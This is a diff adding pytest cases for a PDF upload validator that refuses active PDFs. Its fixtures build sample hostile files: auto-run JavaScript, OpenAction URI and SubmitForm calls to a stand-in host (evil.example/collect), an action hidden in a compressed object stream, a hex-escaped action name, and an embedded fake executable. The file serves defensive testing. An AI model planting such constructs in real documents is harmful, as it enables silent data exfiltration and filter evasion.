@@ -85,10 +85,10 @@ def raw_pdf(catalog_extra: bytes) -> bytes:
     return bytes(out)
 
 
-def pdf_with_js_in_object_stream() -> bytes:
+def pdf_with_js_in_object_stream(open_action: bytes = b"<< /S /JavaScript /JS (app.alert(1)) >>") -> bytes:
     """PDF 1.5: catalog, pages and page live in a Flate-compressed object stream, found through
-    a cross-reference stream; the catalog's OpenAction runs JavaScript."""
-    bodies = [b"<< /Type /Catalog /Pages 3 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
+    a cross-reference stream; the catalog's OpenAction runs JavaScript (or `open_action`)."""
+    bodies = [b"<< /Type /Catalog /Pages 3 0 R /OpenAction " + open_action + b" >>",
               b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 200 200] >>"]
     header, body, pos = b"", b"", 0
@@ -245,3 +245,99 @@ def test_download_names_are_safe(original: str, kept: str) -> None:
 def test_long_names_keep_their_extension() -> None:
     name = clean_filename("申" * 500 + ".pdf")
     assert name.endswith(".pdf") and len(name) <= 150
+
+
+# --- what else a PDF may not carry: URI on open, form submission, remote go-to, embedded files, RichMedia ----
+
+def _action(kind: str, **entries: object) -> DictionaryObject:
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for key, value in entries.items():
+        action[NameObject("/" + key)] = value
+    return action
+
+
+def pdf_with_open_action(action: DictionaryObject) -> bytes:
+    w = PdfWriter()
+    w.add_blank_page(200, 200)
+    w._root_object[NameObject("/OpenAction")] = w._add_object(action)
+    return pypdf_bytes(w)
+
+
+def pdf_with_page_open_action(action: DictionaryObject) -> bytes:
+    """The page's additional action /AA /O (runs when the page is shown)."""
+    w = PdfWriter()
+    page = w.add_blank_page(200, 200)
+    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
+    return pypdf_bytes(w)
+
+
+def pdf_with_annotation(subtype: str, **entries: object) -> bytes:
+    w = PdfWriter()
+    page = w.add_blank_page(200, 200)
+    annot = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
+                              NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 50, 50)])})
+    for key, value in entries.items():
+        annot[NameObject("/" + key)] = value
+    page[NameObject("/Annots")] = ArrayObject([w._add_object(annot)])
+    return pypdf_bytes(w)
+
+
+def pdf_with_embedded_file() -> bytes:
+    w = PdfWriter()
+    w.add_blank_page(200, 200)
+    w.add_attachment("setup.exe", b"MZ\x90\x00 not really a program")
+    return pypdf_bytes(w)
+
+
+def pdf_with_uri_open_action_in_object_stream() -> bytes:
+    """The catalog's OpenAction opens a web address, inside an object stream: only the parser sees it."""
+    data = pdf_with_js_in_object_stream(b"<< /S /URI /URI (http://evil.example/x) >>")
+    assert b"URI" not in data
+    return data
+
+
+URL = TextStringObject("http://evil.example/collect")
+REFUSED_PDFS = [
+    ("uri-open-action", lambda: pdf_with_open_action(_action("/URI", URI=URL)), "网址"),
+    ("uri-page-open", lambda: pdf_with_page_open_action(_action("/URI", URI=URL)), "网址"),
+    ("uri-after-goto", lambda: pdf_with_open_action(_action("/GoTo", D=ArrayObject([NumberObject(0)]),
+                                                            Next=_action("/URI", URI=URL))), "网址"),
+    ("uri-open-action-object-stream", pdf_with_uri_open_action_in_object_stream, "网址"),
+    ("submit-form-open-action", lambda: pdf_with_open_action(_action("/SubmitForm", F=URL)), "SubmitForm"),
+    ("import-data-field-trigger", lambda: pdf_with_annotation_action(_action("/ImportData", F=URL)), "ImportData"),
+    ("hex-escaped-submit-form", lambda: raw_pdf(b"/OpenAction << /S /Sub#6DitForm /F (http://x.example) >>"),
+     "SubmitForm"),
+    ("embedded-files", pdf_with_embedded_file, "嵌入文件"),
+    ("file-attachment-annotation", lambda: pdf_with_annotation("/FileAttachment", FS=TextStringObject("a.exe")),
+     "嵌入文件"),
+    ("rich-media-annotation", lambda: pdf_with_annotation("/RichMedia"), "RichMedia"),
+    ("goto-remote", lambda: pdf_with_annotation("/Link", A=_action("/GoToR", F=TextStringObject("other.pdf"),
+                                                                    D=ArrayObject([NumberObject(0)]))), "GoToR"),
+    ("goto-embedded", lambda: pdf_with_annotation("/Link", A=_action("/GoToE", D=ArrayObject([NumberObject(0)]))),
+     "GoToE"),
+]
+
+
+@pytest.mark.parametrize(("make", "says"), [(m, s) for _, m, s in REFUSED_PDFS], ids=[i for i, _, _ in REFUSED_PDFS])
+def test_pdfs_that_act_by_themselves_or_carry_files_are_refused(make, says) -> None:
+    with pytest.raises(UploadRejected) as err:
+        check_upload(make())
+    assert err.value.code == "pdf_active" and says in err.value.message and "不能上传" in err.value.message
+
+
+def test_a_benign_pdf_with_links_and_an_open_destination_is_accepted() -> None:
+    """An internal link, a link a reader clicks to a web page, and an OpenAction that is only a
+    destination (which references the page and its links) are ordinary and pass."""
+    w = PdfWriter()
+    first = w.add_blank_page(200, 200)
+    second = w.add_blank_page(200, 200)
+    internal = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
+                                 NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 50, 50)]),
+                                 NameObject("/A"): _action("/GoTo", D=ArrayObject([second.indirect_reference,
+                                                                                   NameObject("/Fit")]))})
+    web = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
+                            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (60, 0, 110, 50)]),
+                            NameObject("/A"): _action("/URI", URI=TextStringObject("https://www.mofcom.gov.cn/"))})
+    first[NameObject("/Annots")] = ArrayObject([w._add_object(internal), w._add_object(web)])
+    w._root_object[NameObject("/OpenAction")] = ArrayObject([first.indirect_reference, NameObject("/Fit")])
+    assert check_upload(pypdf_bytes(w)) is PDF
